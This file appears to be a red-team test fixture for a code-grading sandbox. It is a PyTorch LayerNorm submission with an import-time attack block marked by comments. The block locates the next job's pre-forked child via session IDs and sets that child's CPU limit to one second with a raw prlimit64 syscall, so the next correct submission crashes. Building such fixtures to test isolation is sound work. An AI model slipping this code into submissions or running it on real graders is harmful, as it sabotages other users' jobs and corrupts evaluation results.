"""Hostile: Finds the next job's idle child (already forked and locked down while this one runs) and
lowers its CPU limit to 1 s with prlimit64, so that the next, correct submission crashes (red-team
04). It finds it without /proc: the zygote is its parent's session, the next slot the first pid
above its own in that session, and the child the next session leader above that.
Its benign twin is this file without the attack blocks (tests/test_hostile.py)."""
import torch
import torch.nn as nn

# >>> attack
import ctypes
import os
import time


class _Limit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]


_libc = ctypes.CDLL(None, use_errno=True)
_zygote = _libc.getsid(os.getppid())
_me = os.getpid()
_next_child = None
for _ in range(100):
    _next_slot = next((p for p in range(_me + 1, _me + 2000) if _libc.getsid(p) == _zygote), None)
    if _next_slot:
        _next_child = next((p for p in range(_next_slot + 1, _next_slot + 2000) if _libc.getsid(p) == p), None)
    if _next_child:
        break
    time.sleep(0.01)
if _next_child is None:
    raise ProcessLookupError(f"no next child found (zygote session {_zygote})")
if _libc.syscall(302, _next_child, 0, ctypes.byref(_Limit(1, 1)), None) != 0:  # RLIMIT_CPU
    raise OSError(ctypes.get_errno(), "prlimit64 on the next child")
# <<< attack


class LayerNorm(nn.Module):
    def __init__(self, normalized_shape, eps=1e-5):
        super().__init__()
        if isinstance(normalized_shape, int):
            normalized_shape = (normalized_shape,)
        self.normalized_shape = tuple(normalized_shape)
        self.eps = eps
        self.weight = nn.Parameter(torch.ones(self.normalized_shape))
        self.bias = nn.Parameter(torch.zeros(self.normalized_shape))

    def forward(self, x):
        dims = tuple(range(-len(self.normalized_shape), 0))
        mean = x.mean(dim=dims, keepdim=True)
        var = ((x - mean) ** 2).mean(dim=dims, keepdim=True)
        out = (x - mean) / torch.sqrt(var + self.eps) * self.weight + self.bias
        return out
